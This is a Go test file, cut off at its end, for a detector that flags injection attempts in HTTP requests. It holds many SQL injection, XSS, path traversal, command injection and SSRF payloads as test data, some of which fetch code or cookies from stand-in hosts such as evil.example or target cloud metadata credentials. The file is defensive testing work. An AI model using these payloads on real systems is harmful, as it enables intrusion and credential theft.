package detect

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/audittrail/audittrail/schema"
)

// injectionCase is a request and the rule expected of each class ("" for
// none).
type injectionCase struct {
	name string
	req  Request
	want map[attackClass]string // class → rule; the others must not match
}

func query(v string) Request {
	return Request{Method: "GET", Path: "/search", RawQuery: "q=" + url.QueryEscape(v)}
}

func rawQuery(q string) Request { return Request{Method: "GET", Path: "/search", RawQuery: q} }

func jsonBody(v string) Request {
	b, _ := json.Marshal(map[string]string{"comment": v})
	return Request{Method: "POST", Path: "/comments", Headers: map[string][]string{"content-type": {"application/json"}}, Body: b}
}

func header(name, v string) Request {
	return Request{Method: "GET", Path: "/", Headers: map[string][]string{name: {v}}}
}

func TestInjectionSignatures(t *testing.T) {
	sqli, xss, trav, cmd, ssrf := classSQLi, classXSS, classTraversal, classCommand, classSSRF
	cases := []injectionCase{
		// SQL injection.
		{"union select nulls", query("1' UNION ALL SELECT NULL,NULL,NULL-- -"), map[attackClass]string{sqli: "sqli.union_select"}},
		{"union select list", query("-1 union select username,password from users"), map[attackClass]string{sqli: "sqli.union_select"}},
		{"union comment spaces", query("1/**/UnIoN/**/SeLeCt/**/1,2,3"), map[attackClass]string{sqli: "sqli.union_select"}},
		{"union versioned comment", query("1 /*!50000union*/ /*!50000select*/ 1,2"), map[attackClass]string{sqli: "sqli.mysql_comment"}},
		{"union newline", rawQuery("id=1%0aunion%0aselect%0a@@version"), map[attackClass]string{sqli: "sqli.union_select"}},
		{"tautology quotes", query("' or '1'='1"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology no spaces", query("admin'or'a'='a"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology numeric", rawQuery("id=1+or+1%3D1"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology double quotes", query(`" or ""="`), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology paren", query("') or ('x'='x"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology literal comment", query("' or 1 -- -"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"tautology true", query("x' or true"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"boolean substring", query("1' AND SUBSTRING(version(),1,1)='5"), map[attackClass]string{sqli: "sqli.boolean_function"}},
		{"boolean subquery", query("1 AND 1234=(SELECT COUNT(*) FROM users)"), map[attackClass]string{sqli: "sqli.boolean_function"}},
		{"comment terminator", query("admin'--"), map[attackClass]string{sqli: "sqli.comment_terminator"}},
		{"comment hash", query("admin')#"), map[attackClass]string{sqli: "sqli.comment_terminator"}},
		{"stacked drop", query("1; DROP TABLE users"), map[attackClass]string{sqli: "sqli.stacked_query"}},
		{"stacked bobby", jsonBody("Robert'); DROP TABLE Students;--"), map[attackClass]string{sqli: "sqli.stacked_query"}},
		{"stacked exec", query("'; exec master..xp_cmdshell 'ping 10.0.0.1'"), map[attackClass]string{sqli: "sqli.stacked_query"}},
		{"time sleep", query("1' AND SLEEP(5) AND 'a'='a"), map[attackClass]string{sqli: "sqli.time_based"}},
		{"time pg_sleep", query("1'||pg_sleep(10)||'"), map[attackClass]string{sqli: "sqli.time_based"}},
		{"time waitfor", query("1'; WAITFOR DELAY '0:0:5'--"), map[attackClass]string{sqli: "sqli.comment_terminator"}},
		{"time benchmark", query("1 and benchmark(5000000,md5(1))"), map[attackClass]string{sqli: "sqli.time_based"}},
		{"double encoded", rawQuery("id=1%2527%2520or%2520%25271%2527%253D%25271"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"schema probe", query("1 and extractvalue(1,concat(0x7e,(select user())))"), map[attackClass]string{sqli: "sqli.boolean_function"}},
		{"information_schema", query("x from information_schema.tables"), map[attackClass]string{sqli: "sqli.schema_probe"}},
		{"sqli in cookie", header("cookie", "theme=dark; session=abc' OR '1'='1"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"sqli in xff", header("x-forwarded-for", "1' AND SLEEP(5)#"), map[attackClass]string{sqli: "sqli.time_based"}},
		{"sqli in form body", Request{Method: "POST", Path: "/login", Headers: map[string][]string{"content-type": {"application/x-www-form-urlencoded"}}, Body: []byte("user=admin%27--&pass=x")}, map[attackClass]string{sqli: "sqli.comment_terminator"}},
		{"sqli in path", Request{Method: "GET", Path: "/items/1%20union%20select%20null,null"}, map[attackClass]string{sqli: "sqli.union_select"}},

		{"order by", query("1' ORDER BY 10--"), map[attackClass]string{sqli: "sqli.order_by"}},
		{"rlike", query("1' RLIKE (SELECT 1)"), map[attackClass]string{sqli: "sqli.boolean_function"}},
		{"having", query("10' HAVING 1=1"), map[attackClass]string{sqli: "sqli.tautology"}},
		{"quoted phrase about or", jsonBody(`Why "or 1=1" shows up in your logs`), nil},
		{"quoted or", query(`"shoes" OR "boots"`), nil},

		// Cross-site scripting.
		{"script tag", query("<script>alert(1)</script>"), map[attackClass]string{xss: "xss.script_tag"}},
		{"script tag upper encoded", rawQuery("q=%3CScRiPt%20src%3D//evil.example/x.js%3E"), map[attackClass]string{xss: "xss.script_tag"}},
		{"img onerror", query(`"><img src=x onerror=alert(document.domain)>`), map[attackClass]string{xss: "xss.event_handler"}},
		{"svg onload", query("<svg/onload=alert(1)>"), map[attackClass]string{xss: "xss.event_handler"}},
		{"attribute breakout", query(`x" onmouseover="alert(1)`), map[attackClass]string{xss: "xss.event_handler"}},
		{"javascript uri", rawQuery("next=javascript:alert(1)"), map[attackClass]string{xss: "xss.javascript_uri"}},
		{"javascript uri tab", query("java\tscript:alert(1)"), map[attackClass]string{xss: "xss.javascript_uri"}},
		{"javascript uri entity", query("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"), map[attackClass]string{xss: "xss.javascript_uri"}},
		{"data uri", query("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), map[attackClass]string{xss: "xss.data_uri"}},
		{"iframe", query("<iframe src=//evil.example>"), map[attackClass]string{xss: "xss.dangerous_tag"}},
		{"js breakout", query("';alert(String.fromCharCode(88,83,83))//"), map[attackClass]string{xss: "xss.js_breakout"}},
		{"xss in json body", jsonBody("<img src=1 onerror=fetch('//x.example/'+document.cookie)>"), map[attackClass]string{xss: "xss.event_handler"}},
		{"xss escaped in json", Request{Method: "POST", Path: "/c", Headers: map[string][]string{"content-type": {"application/json"}}, Body: []byte(`{"c":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`)}, map[attackClass]string{xss: "xss.script_tag"}},
		{"xss in user agent", header("user-agent", "Mozilla/5.0 <script>alert(1)</script>"), map[attackClass]string{xss: "xss.script_tag"}},
		{"xss in referer", header("referer", "https://a.example/?q=%3Csvg%20onload%3Dalert(1)%3E"), map[attackClass]string{xss: "xss.event_handler"}},

		// Path traversal.
		{"dot dot passwd", rawQuery("file=../../../../etc/passwd"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"encoded dot dot", rawQuery("file=%2e%2e%2f%2e%2e%2fetc%2fpasswd"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"double encoded dot dot", rawQuery("file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"backslashes", rawQuery(`file=..%5c..%5c..%5cboot.ini`), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"overlong utf8", rawQuery("file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"filter bypass", rawQuery("page=....//....//etc/passwd"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"in path", Request{Method: "GET", Path: "/static/..%2f..%2fetc/passwd"}, map[attackClass]string{trav: "traversal.dot_dot"}},
		{"one level in path", Request{Method: "GET", Path: "/files/../admin"}, map[attackClass]string{trav: "traversal.dot_dot"}},
		{"absolute file", rawQuery("template=/etc/passwd"), map[attackClass]string{trav: "traversal.sensitive_file"}},
		{"php filter", rawQuery("page=php://filter/convert.base64-encode/resource=index.php"), map[attackClass]string{trav: "traversal.file_scheme"}},
		{"traversal in json", jsonBody("../../../../../../etc/shadow"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"file in json", jsonBody("/etc/passwd"), map[attackClass]string{trav: "traversal.sensitive_file"}},
		{"dot segments between", rawQuery("f=..././..././etc/passwd"), map[attackClass]string{trav: "traversal.dot_dot"}},
		{"prose about paths", jsonBody("I write about /etc/hosts and the ../ in relative paths"), nil},
		{"search about relative paths", query("../../ relative path"), nil},
		{"search about a file scheme", query("file:// protocol"), nil},

		// Command injection.
		{"semicolon cat", query("; cat /etc/passwd"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"pipe id", query("x|id"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"and whoami", query("127.0.0.1 && whoami"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"subshell", query("$(curl http://evil.example/x.sh|sh)"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"backticks", query("`id`"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"newline", rawQuery("host=example.com%0aid"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"ifs", query(";cat${IFS}/etc/hostname"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"quoted", query(";w'h'o'am'i"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"ping", query("| ping -c 10 127.0.0.1"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"sleep", query("1;sleep 10"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"windows", query("& type c:\\windows\\win.ini"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"shellshock", header("user-agent", "() { :; }; /bin/bash -c 'id'"), map[attackClass]string{cmd: "cmd.shellshock"}},
		{"shellshock in cookie", header("cookie", "() { :; }; ping -c 3 10.0.0.1"), map[attackClass]string{cmd: "cmd.shellshock"}},
		{"pipe alone", query("| id"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"net user", query("& net user"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},
		{"prose about a shell", jsonBody("On my Mac: cd ~/project && ls -la shows the file"), nil},
		{"jquery", jsonBody("$(document).ready(function () { $(this).hide(); });"), nil},
		{"cmd in json", jsonBody("8.8.8.8; wget http://evil.example/a -O /tmp/a"), map[attackClass]string{cmd: "cmd.shell_metachar_command"}},

		// SSRF.
		{"metadata url", rawQuery("url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"decimal", rawQuery("url=http://2852039166/latest/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"hex", rawQuery("url=http://0xa9fea9fe/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"octal", rawQuery("url=http://0251.0376.0251.0376/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"short", rawQuery("url=http://169.254.43518/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"mapped ipv6", rawQuery("url=http://[::ffff:a9fe:a9fe]/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"ec2 ipv6", rawQuery("url=http://[fd00:ec2::254]/latest/meta-data/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"gcp", jsonBody("http://metadata.google.internal/computeMetadata/v1/instance/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"instance-data", rawQuery("u=http%3A%2F%2Finstance-data%2Flatest%2F"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"ecs", rawQuery("u=http://169.254.170.2/v2/credentials/abc"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"userinfo", rawQuery("u=http://example.com@169.254.169.254/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"nip.io", rawQuery("u=http://169.254.169.254.nip.io/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"bare hex host", rawQuery("host=0xa9fea9fe"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"bare name", jsonBody("Metadata.Google.Internal"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"xff is not ssrf", header("x-forwarded-for", "169.254.169.254"), map[attackClass]string{}},
		{"ipv4-compatible", rawQuery("u=http://[::169.254.169.254]/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"wildcard dns label", rawQuery("u=http://www.169.254.169.254.nip.io/"), map[attackClass]string{ssrf: "ssrf.metadata"}},
		{"metadata path", jsonBody("http://internal-proxy/latest/meta-data/iam/"), map[attackClass]string{ssrf: "ssrf.metadata_path"}},
		{"question about the address", query("what is 169.254.169.254"), nil},

		// Benign look-alikes.
		{"o'reilly", query("O'Reilly books on SQL"), nil},
		{"exact phrase", query(`"exact phrase" OR "another one"`), nil},
		{"select comfort", query("Select Comfort bed"), nil},
		{"drop earrings", query("DROP earrings; gold"), nil},
		{"european union", query("European Union select committee report"), nil},
		{"union select 1 pack", query("Union Select 1 pack"), nil},
		{"sql prose", jsonBody("Please select a union representative and drop the table of contents from the draft."), nil},
		{"don't", query("don't stop or 2 more"), nil},
		{"size or", query("size 10 or 12"), nil},
		{"markdown", jsonBody("Use `a < b && c > d` and `Vec<T>`; see <br> and ../docs/README.md"), nil},
		{"markdown shell", jsonBody("Run `ls -la` first;\ncat /var/log/app.log shows it"), nil},
		{"markdown table", jsonBody("|id|name|\n|--|--|\n|1|x|"), nil},
		{"javascript book", query("JavaScript: The Good Parts (2008)"), nil},
		{"void", jsonBody(`<a href="javascript:void(0)">menu</a>`), nil},
		{"url param", rawQuery("redirect=https%3A%2F%2Fexample.com%2Fcallback%3Fa%3D1%26b%3D2"), nil},
		{"email", rawQuery("email=john.o%27brien%2Btag%40example.com"), nil},
		{"base64", rawQuery("blob=eyJhIjoiYiJ9+aGVsbG8gd29ybGQ=/dGVzdA=="), nil},
		{"wallet", query("Wallet; ID card holder"), nil},
		{"cats", query("toys for dogs | cat toys"), nil},
		{"ua chrome", header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"), nil},
		{"ua android", header("user-agent", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S908B Build/TP1A)"), nil},
		{"curl ua", header("user-agent", "curl/8.5.0"), nil},
		{"js code", jsonBody("const f = function () { return x; };\nawait sleep(1000); time.sleep(5)"), nil},
		{"relative link once", rawQuery("back=../orders"), nil},
		{"search passwd", query("how to edit /etc/passwd safely"), nil},
		{"metadata word", query("photo metadata editor"), nil},
		{"big number", rawQuery("order=2852039166"), nil},
		{"iframe word", query("<iframe> tag attributes"), nil},
		{"script word", query("<script> tag explained"), nil},
		{"onion", query(`"onion" rings only=yes`), nil},
		{"html body", Request{Method: "POST", Path: "/pages", Headers: map[string][]string{"content-type": {"text/html"}}, Body: []byte(`<p>Watch: <iframe src="https://www.youtube.com/embed/x"></iframe></p>`)}, nil},
		{"binary body", Request{Method: "PUT", Path: "/img", Headers: map[string][]string{"content-type": {"image/png"}}, Body: []byte("<script>x</script>")}, nil},
		{"authorization not read", header("authorization", "Bearer ' or '1'='1"), nil},
		{"empty host", rawQuery("u=//.&v=http://./&w=[]"), nil}, // found by FuzzInjection
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := map[attackClass]string{}
			for _, f := range Injection(&tc.req) {
				c := classOfRule(t, f.Evidence.Rule)
				got[c] = f.Evidence.Rule
				if f.Type != schema.FindingInjectionAttempt || f.Severity != c.severity() || f.Evidence.Location == "" {
					t.Errorf("finding %+v", f)
				}
			}
			for c := range numClasses {
				if got[c] != tc.want[c] {
					t.Errorf("%s: got rule %q, want %q", c.name(), got[c], tc.want[c])
				}
			}
		})
	}
}

func classOfRule(t *testing.T, rule string) attackClass {
	t.Helper()
	prefix, _, _ := strings.Cut(rule, ".")
	switch prefix {
	case "sqli":
		return classSQLi
	case "xss":
		return classXSS
	case "traversal":
		return classTraversal
	case "cmd":
		return classCommand
	case "ssrf":
		return classSSRF
	}
	t.Fatalf("rule %q of no class", rule)
	return 0
}

// TestInjectionFinding checks a whole finding: one per class, in class
// order, locations named, and no payload in the reason.
func TestInjectionFinding(t *testing.T) {
	req := Request{
		Method:   "POST",
		Path:     "/api/../../etc/passwd",
		RawQuery: "q=%27%20UNION%20SELECT%20NULL--&u=http://169.254.169.254/",
		Headers: map[string][]string{
			"user-agent":   {"<script>alert(1)</script>"},
			"content-type": {"application/json"},
		},
		Body: []byte(`{"host":"x; cat /etc/passwd","again":"' or 1=1--"}`),
	}
	got := Injection(&req)
	want := []schema.Finding{
		{Type: "injection_attempt", Severity: "high", Reason: "SQL injection (sqli.union_select) in the query string.", Evidence: schema.Evidence{Location: "request.query", Rule: "sqli.union_select"}},
		{Type: "injection_attempt", Severity: "medium", Reason: "Cross-site scripting (xss.script_tag) in the user-agent header.", Evidence: schema.Evidence{Location: "request.header.user-agent", Rule: "xss.script_tag"}},
		{Type: "injection_attempt", Severity: "medium", Reason: "Path traversal (traversal.dot_dot) in the request path.", Evidence: schema.Evidence{Location: "request.path", Rule: "traversal.dot_dot"}},
		{Type: "injection_attempt", Severity: "high", Reason: "Command injection (cmd.shell_metachar_command) in the request body.", Evidence: schema.Evidence{Location: "request.body", Rule: "cmd.shell_metachar_command"}},
		{Type: "injection_attempt", Severity: "high", Reason: "SSRF towards instance metadata (ssrf.metadata) in the query string.", Evidence: schema.Evidence{Location: "request.query", Rule: "ssrf.metadata"}},
	}
	gj, _ := json.Marshal(got)
	wj, _ := json.Marshal(want)
	if string(gj) != string(wj) {
		t.Fatalf("got  %s\nwant %s", gj, wj)
	}
	for _, f := range got {
		for _, payload := range []string{"UNION", "alert", "passwd", "169.254"} {
			if strings.Contains(f.Reason, payload) {
				t.Errorf("reason %q holds payload text %q", f.Reason, payload)
			}
		}
	}
	if Injection(nil) != nil || Injection(&Request{Method: "GET", Path: "/"}) != nil {
		t.Error("nothing to find, got findings")
	}
}

// TestInjectionFromEvents runs Injection on the request of each event
// shape ParseRequest reads.
func TestInjectionFromEvents(t *testing.T) {
	events := map[string]string{
		"http api v2":  `{"version":"2.0","rawPath":"/search","rawQueryString":"q=1%27%20or%20%271%27%3D%271","headers":{"user-agent":"x"},"requestContext":{"http":{"method":"GET","path":"/search"}}}`,
		"rest v1":      `{"httpMethod":"GET","path":"/search","queryStringParameters":{"q":"1' or '1'='1"},"headers":{"User-Agent":"x"},"requestContext":{"stage":"prod"}}`,
		"rest v1 mv":   `{"httpMethod":"GET","path":"/search","multiValueQueryStringParameters":{"q":["a","1' or '1'='1"]},"requestContext":{"stage":"prod"}}`,
		"alb":          `{"requestContext":{"elb":{"targetGroupArn":"arn"}},"httpMethod":"GET","path":"/search","queryStringParameters":{"q":"1%27%20or%20%271%27%3D%271"},"headers":{}}`,
		"function url": `{"version":"2.0","rawPath":"/","rawQueryString":"","requestContext":{"http":{"method":"POST","path":"/"}},"body":"eyJxIjoiMScgb3IgJzEnPScxIn0=","isBase64Encoded":true,"headers":{"content-type":"application/json"}}`,
	}
	for name, ev := range events {
		req, ok := ParseRequest([]byte(ev), 16<<10)
		if !ok {
			t.Fatalf("%s: not an HTTP event", name)
		}
		got := Injection(&req)
		if len(got) != 1 || got[0].Evidence.Rule != "sqli.tautology" {
			t.Errorf("%s: got %+v", name, got)
		}
	}
}

// TestInjectionPathological: inputs built to make a scanner slow or
// confused give an answer (their time is measured by
// BenchmarkInjectionPathological).
func TestInjectionPathological(t *testing.T) {
	for _, in := range pathologicalInputs() {
		for _, req := range []Request{
			{Method: "GET", Path: "/" + in.s},
			{Method: "GET", Path: "/", RawQuery: "q=" + in.s},
			{Method: "POST", Path: "/", Body: []byte(in.s)},
			{Method: "POST", Path: "/", Headers: map[string][]string{"content-type": {"application/json"}}, Body: []byte(`{"a":"` + in.s + `"}`)},
			{Method: "GET", Path: "/", Headers: map[string][]string{"user-agent": {in.s}, "cookie": {in.s}}},
		} {
			for _, f := range Injection(&req) {
				if f.Evidence.Rule == "" {
					t.Errorf("%s: finding without rule", in.name)
				}
			}
		}
	}
}

type pathological struct{ name, s string }

func pathologicalInputs() []pathological {
	const mib = 1 << 20
	return []pathological{
		{"quotes", strings.Repeat("'", mib)},
		{"lt", strings.Repeat("<", mib)},
		{"percent25", strings.Repeat("%25", mib/3)},
		{"digits", strings.Repeat("4", mib)},
		{"or", strings.Repeat("' or ", mib/5)},
		{"semicolons", strings.Repeat(";id", mib/3)},
		{"dotdot", strings.Repeat("../", mib/3)},
		{"slashes", strings.Repeat("//", mib/2)},
		{"on", strings.Repeat(" on", mib/3)},
		{"comments", strings.Repeat("/*", mib/2)},
		{"entities", strings.Repeat("&#", mib/2)},
		{"union", strings.Repeat("union ", mib/6)},
	}
}

// TestDecodePercent covers the decoder's edge cases.
func TestDecodePercent(t *testing.T) {
	for _, tc := range []struct {
		in   string
		plus bool
		want string
	}{
		{"a+b%20c", true, "a b c"},
		{"a+b", false, "a+b"},
		{"%", true, "%"},
		{"%4", true, "%4"},
		{"%zz", true, "%zz"},
		{"%u002e%U002F", false, "./"},
		{"%u00", false, "%u00"},
		{"100%", false, "100%"},
	} {
		if got := decodePercent(tc.in, tc.plus); got != tc.want {
			t.Errorf("decodePercent(%q, %v) = %q, want %q", tc.in, tc.plus, got, tc.want)
		}
	}
	if got := fold("\xc0\xae\xc0\xaf\xc1\x9c\xe0\x80\xaeAB"); got != "./\\.ab" {
		t.Errorf("fold = %q", got)
	}
}

// TestParseIPv4Loose covers the address spellings.
func TestParseIPv4Loose(t *testing.T) {
	for in, want := range map[string]uint32{
		"169.254.169.254":     0xa9fea9fe,
		"2852039166":          0xa9fea9fe,
		"0xa9fea9fe":          0xa9fea9fe,
		"0251.0376.0251.0376": 0xa9fea9fe,
		"0xa9.0xfe.0xa9.0xfe": 0xa9fea9fe,
		"169.254.43518":       0xa9fea9fe,
		"169.16689662":        0xa9fea9fe,
		"127.1":               0x7f000001,
	} {
		if got, ok := parseIPv4Loose(in); !ok || got != want {
			t.Errorf("parseIPv4Loose(%q) = %#x, %v; want %#x", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "1.2.3.4.5", "256.1.1.1", "1..2", "08.1.1.1", "0x", "example.com", "4294967296", "1.2.3.256"} {
		if _, ok := parseIPv4Loose(in); ok {
			t.Errorf("parseIPv4Loose(%q) ok", in)
		}
	}
}

func FuzzInjection(f *testing.F) {
	f.Add([]byte(`{"version":"2.0","rawPath":"/a/../b","rawQueryString":"q=%27%20or%201%3D1--","headers":{"user-agent":"() { :; }; id","cookie":"a=b; c=<script>"},"requestContext":{"http":{"method":"GET"}}}`))
	f.Add([]byte(`{"httpMethod":"POST","path":"/x","headers":{"Content-Type":"application/x-www-form-urlencoded"},"body":"u=http%3A%2F%2F0xa9fea9fe%2F&c=%3Bid"}`))
	f.Add([]byte(`{"httpMethod":"POST","path":"/x","headers":{"content-type":"application/json"},"body":"{\"a\":\"\\u003cimg src=x onerror=alert(1)\\u003e\",\"b\":[\"..\\\\..\\\\win.ini\"]}"}`))
	f.Add([]byte(`{"httpMethod":"GET","path":"/%c0%ae%c0%ae/%u002e%u002e/"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		check := func(req *Request) {
			seen := map[string]bool{}
			for _, f := range Injection(req) {
				prefix, _, _ := strings.Cut(f.Evidence.Rule, ".")
				if seen[prefix] || f.Type != schema.FindingInjectionAttempt || f.Evidence.Location == "" || f.Reason == "" {
					t.Fatalf("bad finding %+v", f)
				}
				seen[prefix] = true
			}
		}
		if req, ok := ParseRequest(data, 64<<10); ok {
			check(&req)
		}
		// The same bytes in every field, without an event around them.
		s := string(data)
		check(&Request{Method: "POST", Path: s, RawQuery: s, Body: data,
			Headers: map[string][]string{"user-agent": {s}, "cookie": {s}, "referer": {s}, "x-forwarded-for": {s}, "content-type": {"application/json"}}})
		check(&Request{Method: "POST", Path: "/", Body: data, Headers: map[string][]string{"content-type": {"application/x-www-form-urlencoded"}}})
	})
}

// benchRequest is a realistic request with a JSON body of about size
// bytes.
func benchRequest(size int) Request {
	var b strings.Builder
	b.WriteString(`{"customer":{"name":"Jane O'Brien","email":"jane@example.com","phone":"+1 415 555 2671"},"items":[`)
	for i := 0; b.Len() < size-120; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`{"sku":"SKU-10442-BLK","name":"Select Comfort pillow, union-made","qty":2,"note":"Please leave at the door; ring twice"}`)
	}
	b.WriteString(`],"coupon":"SPRING-2024","redirect":"https://shop.example.com/orders?ref=cart&utm_source=mail"}`)
	return Request{
		Method:   "POST",
		Path:     "/v1/orders/7f3c2a9e-1b4d-4c8e-9a2f-3d5e6f7a8b9c/items",
		RawQuery: "expand=items%2Ccustomer&q=O%27Reilly+%22exact+phrase%22&page=2",
		Headers: map[string][]string{
			"user-agent":   {"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"},
			"referer":      {"https://shop.example.com/cart?step=2"},
			"cookie":       {"session=9f86d081884c7d659a2feaa0c55ad015; theme=dark; consent=%7B%22ads%22%3Afalse%7D"},
			"content-type": {"application/json"},
		},
		Body: []byte(b.String()),
	}
}

func BenchmarkInjection(b *testing.B) {
	for _, size := range []struct {
		name string
		n    int
	}{{"1KB", 1 << 10}, {"64KB", 64 << 10}} {
		b.Run(size.name, func(b *testing.B) {
			req := benchRequest(size.n)
			b.SetBytes(int64(len(req.Body) + len(req.RawQuery) + len(req.Path)))
			b.ReportAllocs()
			for b.Loop() {
				if Injection(&req) != nil {
					b.Fatal("benign request reported")
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N), "ns/req")
		})
	}
}

func BenchmarkInjectionPathological(b *testing.B) {
	for _, in := range pathologicalInputs() {
		b.Run(in.name, func(b *testing.B) {
			req := Request{Method: "POST", Path: "/" + in.s[:min(len(in.s), 8<<10)], RawQuery: "q=" + in.s, Body: []byte(in.s),
				Headers: map[string][]string{"user-agent": {in.s}, "cookie": {in.s}}}
			b.SetBytes(int64(len(in.s)))
			for b.Loop() {
				Injection(&req)
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N), "ns/req")
		})
	}
}

// TestFeatures checks the byte table features reads against the
// definition of each feature, byte by byte, and the features of two bytes
// (.., two spaces) and of the word union.
func TestFeatures(t *testing.T) {
	// want is the definition: what each byte says of a value by itself.
	want := func(c byte) feature {
		switch {
		case 'a' <= c && c <= 'z':
			return 0
		case 'A' <= c && c <= 'Z':
			return fFold
		case '0' <= c && c <= '9':
			return fDigit
		case c == 0xc0 || c == 0xc1 || c == 0xe0: // may start an overlong . / or \
			return fOverlong | fFold | fDot | fDotDot | fSlash
		}
		switch c {
		case '\'', '"':
			return fQuote
		case '`':
			return fBacktick
		case '<':
			return fLT
		case '>':
			return fGT
		case '.':
			return fDot
		case ';':
			return fSemi
		case '|', '&':
			return fPipeAmp
		case '$':
			return fDollar
		case '\n':
			return fNewline
		case '/', '\\':
			return fSlash
		case ':':
			return fColon
		case '(', ')':
			return fParen
		case '=':
			return fEq
		case '@':
			return fAt
		case '*':
			return fStar
		case '#':
			return fHash
		case '-':
			return fDash
		case '{':
			return fBrace
		case '[':
			return fBracket
		case '_':
			return fUnderscore
		case '%':
			return fPercent
		case ' ':
			return fSpace
		case '\t', '\r', '\f', '\v', 0:
			return fCtrl
		}
		return 0
	}
	for c := range 256 {
		s := string([]byte{byte(c)})
		if got := features(s); got != want(byte(c)) {
			t.Errorf("features(%q) = %#x, want %#x", s, got, want(byte(c)))
		}
		if got := features([]byte(s)); got != want(byte(c)) {
			t.Errorf("features([]byte(%q)) = %#x, want %#x", s, got, want(byte(c)))
		}
	}
	for _, tc := range []struct {
		s         string
		has, hasn feature
	}{
		{"a..b", fDot | fDotDot, 0},
		{"a.b.c", fDot, fDotDot},
		{"a  b", fSpace | fCtrl, 0},
		{"a b c", fSpace, fCtrl},
		{"union", fUnion, 0},
		{"1 UNION select", fUnion | fFold, 0},
		{"xuNiOnx", fUnion, 0},
		{"unio", 0, fUnion},
		{"nion", 0, fUnion},
		{"uni on", 0, fUnion},
		{"unionunion", fUnion, 0},
	} {
		f := features(tc.s)
		if f&tc.has != tc.has || f&tc.hasn != 0 {
			t.Errorf("features(%q) = %#x, want %#x set and %#x clear", tc.s, f, tc.has, tc.hasn)
		}
	}
}

// TestJSONStrings: where each string of a JSON text starts and ends, and
// whether it holds escapes (a quote after an odd number of backslashes is
// inside the string).
func TestJSONStrings(t *testing.T) {
	type str struct {
		raw     string
		escaped bool
	}
	for _, tc := range []struct {
		in   string
		want []str
	}{
		{`{"a":"b","c":[1,"d"]}`, []str{{"a", false}, {"b", false}, {"c", false}, {"d", false}}},
		{`{"a":"x\"y"}`, []str{{"a", false}, {`x\"y`, true}}},
		{`{"a":"x\\"}`, []str{{"a", false}, {`x\\`, true}}},
		{`["x\\\"y"]`, []str{{`x\\\"y`, true}}},
		{`["\u0041"]`, []str{{`\u0041`, true}}},
		{`""`, []str{{"", false}}},
		{`"open`, []str{{"open", false}}},
		{`"ends in \`, []str{{`ends in \`, true}}},
		{`no strings`, nil},
	} {
		var got []str
		jsonStrings([]byte(tc.in), func(start, end int, escaped bool) bool {
			got = append(got, str{tc.in[start:end], escaped})
			return true
		})
		if len(got) != len(tc.want) {
			t.Errorf("%s: got %+v, want %+v", tc.in, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("%s: string %d is %+v, want %+v", tc.in, i, got[i], tc.want[i])
			}
		}
	}
	// fn returning false stops the walk.
	n := 0
	jsonStrings([]byte(`["a","b","c"]`), func(int, int, bool) bool { n++; return n < 2 })
